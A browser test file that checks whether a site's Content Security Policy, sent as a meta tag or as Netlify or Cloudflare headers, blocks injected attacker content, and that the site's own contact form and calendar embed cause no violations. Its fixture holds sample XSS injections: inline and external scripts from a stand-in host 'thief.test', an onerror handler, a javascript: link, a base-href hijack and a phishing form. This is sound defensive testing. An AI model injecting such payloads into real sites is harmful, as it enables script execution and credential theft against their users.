import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
import type { Handler } from '../../../cli/serve/server.ts';
import { answerWith, type TabOptions, visit, visitForTheseTests } from '../../support/browser.ts';
import { hosts, sendingHeaders } from '../../support/hostHeaders.ts';

/** What an attacker might inject into a page. Whatever runs adds its name to `window.ran`. */
const intrusion = `
  <script>(window.ran ??= []).push('inline script')</script>
  <script src="https://thief.test/stolen.js"></script>
  <img src="/none.png" alt="" onerror="(window.ran ??= []).push('inline handler')">
  <a id="trap" href="javascript:(window.ran ??= []).push('javascript: link')">Free mulch</a>
  <style>body { --stolen: yes }</style>
  <base href="https://thief.test/">
  <form id="phish" action="https://thief.test/"><button>Sign in</button></form>`;

const script = (text: string) => ({ body: text, contentType: 'text/javascript' });

/** Injects the attack into every page that a tab loads. */
async function intrude(page: Page, change: (html: string) => string): Promise<void> {
  await page.route('https://thief.test/**', (route) => route.fulfill(script("(window.ran ??= []).push('external script')")));
  await page.route(
    (url) => !/\.\w+$/.test(url.pathname) && url.hostname === '127.0.0.1',
    async (route) => {
      const response = await route.fetch();
      const body = change(await response.text()).replace('</main>', `${intrusion}</main>`);
      return route.fulfill({ response, body });
    },
  );
}

/** Records CSP violations. The returned function lists those of the current page: directive and blocked URL. */
async function violationsOn(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const seen = document.documentElement.dataset;
      seen.violations = `${seen.violations ?? ''}${effectiveDirective} ${blockedURI}\n`;
    });
  });
  return () => page.evaluate(() => (document.documentElement.dataset.violations ?? '').split('\n').filter(Boolean));
}

const withoutMeta = (html: string) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

/**
 * What policies allow besides files of the site, and nothing. tests/generator/output/policy.test.ts compares the header of every path with
 * its <meta>. Within a section, the section's header also covers the page for a missing path. Elsewhere, that page has only its <meta>.
 */
const paths = ['/', '/contact', '/schedule', '/blog/nowhere'];

describe.each([
  ['<meta> alone, as on hosts without headers', undefined, (html: string) => html],
  ['header alone, as Netlify sends it', hosts.Netlify, withoutMeta],
  ['header alone, as Cloudflare sends it', hosts.Cloudflare, withoutMeta],
])('with its %s', (_name, host, change) => {
  const site = visitForTheseTests(host && { middleware: [sendingHeaders(inject('dist'), host)] });
  let page: Page;
  let violations: () => Promise<string[]>;
  beforeAll(async () => {
    page = await site.tab();
    violations = await violationsOn(page);
    await intrude(page, change);
  });

  it.each(paths)('%s runs and sends nothing that an attacker injected', async (path) => {
    await page.goto(path);
    await page.locator('#trap').evaluate((link: HTMLElement) => link.click());
    await page.locator('#phish').evaluate((form: HTMLFormElement) => form.requestSubmit());
    await expect
      .poll(async () => [...new Set(await violations())].sort())
      .toEqual([
        'base-uri https://thief.test/',
        'form-action https://thief.test/?',
        'script-src-attr inline',
        'script-src-elem https://thief.test/stolen.js',
        'script-src-elem inline',
        'style-src-elem inline',
      ]);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    expect(new URL(page.url()).pathname).toBe(path);
  });
});

// tests/site/browser/everyPage.test.ts loads every page with both.
describe('with headers and <meta> together, the site never violates its own CSP', () => {
  const site = visitForTheseTests({ middleware: [sendingHeaders(inject('dist'), hosts.Cloudflare)] });

  async function open(path: string, before?: (page: Page) => Promise<unknown>, options?: TabOptions) {
    let violations = async (): Promise<string[]> => [];
    const page = await site.open(path, options, async (fresh) => {
      violations = await violationsOn(fresh);
      await before?.(fresh);
    });
    await page.waitForLoadState();
    return { page, violations };
  }

  it('when it sends a message', async () => {
    const sends = (fresh: Page) => fresh.route('https://api.emailjs.com/**', answerWith(200, 'OK'));
    const { page, violations } = await open('/contact', sends, { clock: true });
    await page.getByLabel('Name', { exact: true }).focus();
    await page.locator('[data-hydrated]').waitFor();
    await page.getByLabel('Name', { exact: true }).fill('Ann Example');
    await page.getByLabel('E-mail', { exact: true }).fill('ann@example.com');
    await page.getByLabel('Message', { exact: true }).fill('Please mow the lawn.');
    await page.clock.runFor(3_000);
    await page.getByRole('button', { name: 'Send Message' }).click();
    await page.getByText('Thanks for contacting us!').waitFor();
    expect(await violations()).toEqual([]);
  });

  it('when it loads the calendar with its style sheet and frame', async () => {
    const provider = `
      const container = document.querySelector('.calendly-inline-widget');
      const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://booking.example.com/widget.css' });
      const frame = Object.assign(document.createElement('iframe'), { src: container.dataset.url });
      container.append(sheet, frame);`;
    const answers = { js: script(provider), css: { body: 'iframe { border: 0 }', contentType: 'text/css' } };
    const { page, violations } = await open('/schedule', (fresh) =>
      fresh.route('https://booking.example.com/**', (route) => {
        const kind = /\.(js|css)$/.exec(route.request().url())?.[1] as keyof typeof answers | undefined;
        return route.fulfill(kind ? answers[kind] : { body: 'Pick a time', contentType: 'text/html' });
      }),
    );
    await page.frameLocator('.calendly-inline-widget iframe').getByText('Pick a time').waitFor();
    expect(await violations()).toEqual([]);
  });
});

it("another site can't frame a page if headers are sent", async () => {
  const withHeaders = sendingHeaders(inject('dist'), hosts.Netlify);
  const first: Handler = (request, response, next) => {
    const frame = `<!doctype html><iframe src="http://${request.headers.host?.replace('localhost', '127.0.0.1')}/contact"></iframe>`;
    if (request.url === '/elsewhere') response.setHeader('Content-Type', 'text/html').end(frame);
    else withHeaders(request, response, next);
  };
  const site = await visit(inject('dist'), { middleware: [first] });
  onTestFinished(site.close);
  const page = await site.open('/robots.txt');
  await page.goto(`${site.origin.replace('127.0.0.1', 'localhost')}/elsewhere`);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});
